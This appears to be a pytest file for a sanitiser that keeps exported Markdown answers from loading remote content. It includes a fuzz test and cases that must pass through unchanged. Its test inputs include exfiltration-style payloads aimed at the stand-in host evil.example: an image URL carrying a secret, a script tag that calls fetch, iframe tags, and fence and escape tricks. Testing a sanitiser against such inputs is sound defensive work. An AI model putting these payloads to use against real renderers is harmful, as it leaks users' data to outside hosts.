"""An exported answer shows what was said and fetches nothing."""

import random

import pytest
from markdown_it import MarkdownIt

from visionapp.exports.harmless import harmless


@pytest.mark.parametrize(
    "lively",
    [
        "See ![chart](https://evil.example/p.png?q=secret) now.",
        "See ![chart][ref] now.\n\n[ref]: https://evil.example/p.png",
        "See <img src=https://evil.example/p.png> now.",
        "<script>fetch('https://evil.example')</script>",
        "- item\n  ![](//evil.example/p.png)",
        "| a |\n|---|\n| ![](https://evil.example/p.png) |",
        "`code` ![](https://evil.example/p.png) `more`",
        "<!-- hidden --> <iframe src='https://evil.example'>",
        "``` a`b\n\n![x](http://evil.example/a.png)",
        "text\n\n    ```\n\n![x](http://evil.example/a.png)",
        "> ```\n\n![x](http://evil.example/a.png)",
        "- ```\n\n![x](http://evil.example/a.png)",
        "```\n``` js\n```\n\n![x](http://evil.example/a.png)",
        "```\n> ```\n```\n![x](http://evil.example/a.png)",
        "\\`![x](http://evil.example/a.png) `",
        "`a\nb` ![x](http://evil.example/a.png) `c",
        "\\![x](http://evil.example/a.png) \\\\![x](http://evil.example/a.png)",
        "\\\\<img src=x>",
        "![a\nb](http://evil.example/a.png)",
        "<img\nsrc=x>",
    ],
)
def test_pictures_and_html_become_words(lively):
    shown = MarkdownIt("commonmark").enable("table").render(harmless(lively))

    for tag in ("<img", "<script", "<iframe", "<!--"):
        assert tag not in shown


@pytest.mark.parametrize(
    "plain",
    [
        "**Sales** rose from 3 < 5 to [the report](https://example.org/).",
        "```html\n<img src=x>\n![a](b)\n```",
        "~~~\n<p>\n~~~",
        "Use `<img>` or ``![a](b)``.",
        "<https://example.org/a?b=c>",
        "| Year | Sales |\n|---|--:|\n| 2025 | 3 |",
        "\\<img src=x> and \\![x](y)",
    ],
)
def test_what_is_harmless_stays_to_the_letter(plain):
    assert harmless(plain) == plain


def test_what_follows_a_closed_fence_is_looked_at_again():
    text = "```\n<b>\n```\n<b>"

    assert harmless(text) == "```\n<b>\n```\n\\<b>"


@pytest.mark.parametrize("seed", range(300))
def test_no_mixture_comes_alive(seed):
    dice = random.Random(seed)
    parts = [
        "![x](u)",
        "<img src=x>",
        "`",
        "``",
        "```\n",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "    ",
        "\\",
        "a",
    ]
    text = "".join(dice.choices(parts, k=12))

    shown = MarkdownIt("commonmark").enable("table").render(harmless(text))

    assert "<img" not in shown
